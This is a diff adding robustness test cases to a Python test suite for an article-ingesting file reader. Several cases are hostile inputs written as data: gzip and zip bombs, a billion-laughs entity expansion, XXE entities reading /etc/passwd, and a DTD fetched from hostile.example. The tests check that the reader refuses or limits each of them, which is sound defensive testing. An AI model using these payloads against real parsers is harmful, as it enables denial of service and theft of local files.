@@ -112,6 +112,9 @@ BILLION = (
 NESTED_DIVS = b"<html><body>" + b"<div>" * 50_000 + b"Il pleut." + b"</body></html>"
 LATIN_PAGE = "<html><head><meta charset='utf-8'></head><body><article><p>L’été à Rabat fut très pluvieux cette année.</p></article></body></html>"
 
+FEED = "<rss><channel><title>Gazette</title><item><title>Il pleut sur Rabat</title></item>%s</channel></rss>"
+LAUGHS = "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
+
 CASES = [
     # --- files of every kind
     Case("an empty file", "a.txt", b"", "named as empty", error="is empty"),
@@ -124,6 +127,7 @@ CASES = [
     Case("a .gz cut short", "a.jsonl.gz", gzip.compress(LINE * 9, mtime=0)[:-9], "articles before the cut are read, the cut is named", 9, "cut short"),
     Case("a .gz that is none", "a.jsonl.gz", LINE, "named as no .gz", error="no .gz file"),
     Case("a .gz with rubbish behind it", "a.jsonl.gz", gzip.compress(LINE, mtime=0) + b"rubbish", "what was packed is read, the rest named", 1, "no .gz file"),
+    Case("a gzip bomb as a text", "a.txt.gz", gzip.compress(b"a" * 40_000_000, mtime=0), "given up at the limit", error="more than the limit of 4,000,000 bytes"),
     Case("several gzip members in one file", "a.jsonl.gz", gzip.compress(LINE, mtime=0) * 2, "all are read", 2),
     Case("a missing file", "a/b.txt", nothing, "named", error="no such file"),
     Case("a link to nothing", "a.txt", broken_link, "named as missing", error="no such file"),
@@ -175,6 +179,8 @@ CASES = [
     Case("one key twice", "a.jsonl", b'{"text": "a", "text": "Il pleut."}\n', "the last one holds", 1),
     Case("Windows line ends and blank lines", "a.jsonl", b"\r\n" + LINE.replace(b"\n", b"\r\n") * 2, "read", 2),
     Case("a line separator within a text", "a.jsonl", jsonl({"text": "Il pleut.\u2028À Rabat.\x85"}), "one article", 1),
+    Case("a record with neither text nor title", "a.jsonl", jsonl({"text": "", "title": " "}) + LINE, "named; the others are read", 1, "neither a text nor a title"),
+    Case("HTML in a text", "a.jsonl", jsonl({"text": "<p>Il pleut&nbsp;à <b>Rabat</b>.</p>"}), "markup is taken off, with a warning", 1, warning="markup was taken off"),
     # --- CSV
     Case("CSV without a column text", "a.csv", b"id,remarque\n1,x\n", "named with its columns", error="no column « text »; its columns: id, remarque"),
     Case("CSV with line breaks inside cells", "a.csv", b'id,text\n1,"Il pleut\n\xc3\xa0 Rabat"\n2,fin\n', "read", 2),
@@ -191,6 +197,26 @@ CASES = [
     Case("HTML cut in the middle of a tag", "a.html", LATIN_PAGE.encode()[:-30], "read", 1),
     Case("plain text called .html", "a.html", b"Il pleut depuis mardi sur la ville de Rabat, et les rues sont vides.", "read", -1),
     Case("HTML called .txt", "a.txt", LATIN_PAGE.encode(), "recognised and read as HTML, with a warning", 1, warning="read as HTML"),
+    Case("a comment, script or tag that never ends in a text", "a.jsonl", jsonl({"text": "<p>Il pleut.</p><p>" + "<!--" * 50_000 + "<script>" * 20_000}), "read in time that grows with the length", 1),
+    # --- XML: feeds, NewsML-G2, NITF
+    Case("the billion laughs in a feed", "a.xml", f'<!DOCTYPE rss [<!ENTITY a "ha">{LAUGHS}]>{FEED % "&j;"}'.encode(), "refused: a feed that declares entities is not read", error="entit"),
+    Case("an entity that names a file", "a.xml", f'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>{FEED % "&x;"}'.encode(), "refused", error="declares entities of its own"),
+    Case("a parameter entity that names another host", "a.xml", f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://hostile.example/x.dtd"> %x;]>{FEED % ""}'.replace("%% x", "% x").encode(), "refused; nothing is fetched", error="declares entities of its own"),
+    Case("an external DTD", "a.xml", f'<!DOCTYPE rss SYSTEM "http://hostile.example/x.dtd">{FEED % ""}'.encode(), "not fetched; the file is read", 1),
+    Case("characters of HTML that a feed does not declare", "a.xml", (FEED % "<item><title>Il pleut&nbsp;&agrave; F&egrave;s</title></item>").encode(), "read", 2),
+    Case("a feed that is cut", "a.xml", (FEED % "<item><title>Il").encode()[:-30], "articles before the cut are read, the cut is named", 1, "no sound XML"),
+    Case("XML nested too deeply", "a.xml", b"<rss><channel>" + b"<a>" * 100_000, "named, no crash", error="no sound XML"),
+    Case("an item of a feed beyond the limit", "a.xml", (FEED % f"<item><title>{'a' * 9_000_000}</title></item>").encode(), "named; articles before it are read", 1, "more than 8,100,000 bytes"),
+    Case("a gzip bomb in a feed", "a.xml.gz", gzip.compress((FEED % f"<item><title>{'a' * 40_000_000}").encode(), 1, mtime=0), "given up at the limit of one article; articles before it are read", 1, "more than 8,100,000 bytes"),
+    Case("XML of another kind", "a.xml", b"<urlset><url/></urlset>", "named with its root", error="root « urlset », which is not read"),
+    Case("plain text called .xml", "a.xml", b"Il pleut.", "named", error="no sound XML"),
+    Case("a feed without articles", "a.xml", b"<rss><channel><title>Gazette</title></channel></rss>", "named", error="holds no article"),
+    # --- web archives, Word
+    Case("a web archive that is none", "a.warc", b"Il pleut.", "named", error="no sound WARC|holds no web page"),
+    Case("a web archive that is cut", "a.warc", b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>", "named", error="no article found|no sound WARC"),
+    Case("a Word file that is none", "a.docx", b"Il pleut.", "named", error="cannot be read as a Word file"),
+    Case("a zip bomb called .docx", "a.docx", zipped, "refused unpacked", error="when it is unpacked"),
+    Case("a PDF", "a.pdf", b"%PDF-1.7", "named, with the way to its text", error="save its text as .txt"),
     # --- Parquet
     Case("a Parquet file that is none", "a.parquet", b"PAR1 no", "named", error="cannot be read as Parquet"),
     Case("Parquet without a column text", "a.parquet", parquet(remarque=["x"]), "named with its columns", error="no column « text »; its columns: remarque"),
